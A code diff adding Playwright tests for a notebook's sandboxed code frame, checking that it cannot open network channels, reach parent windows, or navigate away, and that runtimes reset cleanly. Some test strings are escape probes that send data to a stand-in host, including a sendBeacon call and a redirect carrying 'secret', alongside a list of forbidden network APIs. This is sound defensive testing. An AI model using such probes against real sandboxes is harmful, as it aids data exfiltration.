@@ -105,7 +105,7 @@ test('a scheme of a cell can do nothing but choose, and the window of the frame 
   ]);
   for (const cell of [1, 2, 3]) await expect(notebook.output(cell)).toContainText(/\[[01],[01],[01]\]/);
   const complaints = page.getByText(/The scheme that chooses engines does not work/);
-  await expect(complaints.filter({ hasText: 'is not defined' }).first()).toBeAttached();
+  await expect(complaints.filter({ hasText: 'it threw TypeError: not a function' }).first()).toBeAttached();
   for (const code of [
     'eval("1")',
     'new Function("1")',
@@ -115,4 +115,94 @@ test('a scheme of a cell can do nothing but choose, and the window of the frame 
     expect(await inFrameWindow(page, `try { ${code}; 'it ran' } catch (error) { error.message }`)).toBe(
       'No text is run as code here.',
     );
+});
+
+/** Code that runs in the frame's window, as no code of a notebook ever should: what stands behind that wall. */
+test('the window of the frame has no way out, even for code that got into it', async ({ page }) => {
+  const left: string[] = [];
+  page.on('request', (request) => left.push(request.url()));
+  const notebook = new NotebookPage(page);
+  await notebook.open(['0']);
+  const attempt = (code: string) =>
+    inFrameWindow(page, `(async () => { ${code} })().then(String, (error) => 'refused: ' + error.name)`);
+  const absent = [
+    'RTCPeerConnection',
+    'webkitRTCPeerConnection',
+    'RTCDataChannel',
+    'WebTransport',
+    'WebSocket',
+    'WebSocketStream',
+    'EventSource',
+    'XMLHttpRequest',
+    'BroadcastChannel',
+    'fetch',
+    'open',
+    'focus',
+    'indexedDB',
+    'caches',
+  ];
+  expect(await attempt(`return ${JSON.stringify(absent)}.filter((name) => name in globalThis)`)).toBe('');
+  for (const code of [
+    'document.createElement("iframe")',
+    'document.write("<iframe></iframe>")',
+    'document.appendChild(new Image())',
+    'new Document().createElement("iframe")',
+    'new Range().createContextualFragment("<iframe></iframe>")',
+    'document.body.innerHTML = "<iframe></iframe>"',
+    'new Image().click()',
+    'top.document.title',
+    'parent.document.title',
+    'parent.parent.document.title',
+    'top.location.href = "https://escape.example/top"',
+    'navigator.sendBeacon("https://escape.example/beacon")',
+  ])
+    expect(await attempt(code), code).toMatch(/^refused/);
+  // Keys go to the cell that has them.
+  await notebook.code(1).focus();
+  await attempt('Window.prototype.focus?.call(globalThis); return document.hasFocus?.()');
+  await page.keyboard.insertText('typed');
+  await expect(notebook.cell(1)).toContainText('typed');
+  // It cannot lead itself away: what it knows would go with the address. It is gone then, and the page says so.
+  await attempt('location.replace("javascript:globalThis.ran = 1"); return 0');
+  expect(await attempt('return typeof ran')).toBe('undefined');
+  await attempt('location.href = "https://escape.example/self?secret"; return 0');
+  await expect(notebook.button('Stop everything')).toBeVisible({ timeout: 60_000 });
+  expect(left.filter((url) => url.includes('escape.example'))).toEqual([]);
+  await notebook.button('Stop everything').click();
+  await notebook.execute(1, '6 * 7');
+  await expect(notebook.output(1)).toContainText('42');
+});
+
+test('another notebook has a runtime of its own, in which nothing of the one before is left', async ({
+  page,
+}) => {
+  const notebook = new NotebookPage(page);
+  await notebook.open([
+    'globalThis.mine = 1; setInterval(() => console.log("late"), 50); await rc[":"].push({ theirs: 2 });\nmine',
+  ]);
+  await notebook.engine(0, 'idle').waitFor();
+  const before = page.frames().find((one) => one.parentFrame() !== null && one.childFrames().length === 0);
+  await inFrameWindow(page, 'globalThis.hook = 1; MessagePort.prototype.postMessage = () => {}; 0');
+  await notebook.open([
+    '[typeof mine, await rc[":"].apply(() => typeof theirs), rc.ids.length].flat().join()',
+  ]);
+  await expect(notebook.output(1)).toContainText('undefined,undefined,undefined,undefined,undefined,4');
+  expect(before?.isDetached()).toBe(true);
+  expect(await inFrameWindow(page, 'typeof hook')).toBe('undefined');
+  // Counters and lives begin anew.
+  for (const id of [0, 1, 2, 3]) await expect(notebook.engine(id, 'idle')).toBeVisible();
+  await expect(notebook.output(1)).not.toContainText('late');
+});
+
+test('a frame that does not answer: the page says so, stops everything, and goes on', async ({ page }) => {
+  const notebook = new NotebookPage(page);
+  await notebook.open(['const here = 1; here']);
+  void inFrameWindow(page, 'while (true);').catch(() => undefined);
+  const stop = notebook.button('Stop everything');
+  await expect(stop).toBeVisible({ timeout: 60_000 });
+  await stop.click();
+  await expect(stop).toBeHidden();
+  await expect(notebook.kernel('idle')).toBeVisible({ timeout: 60_000 });
+  await notebook.execute(1, 'typeof here + (await rc[":"].apply(() => 1))');
+  await expect(notebook.output(1)).toContainText('undefined1,1,1,1');
 });
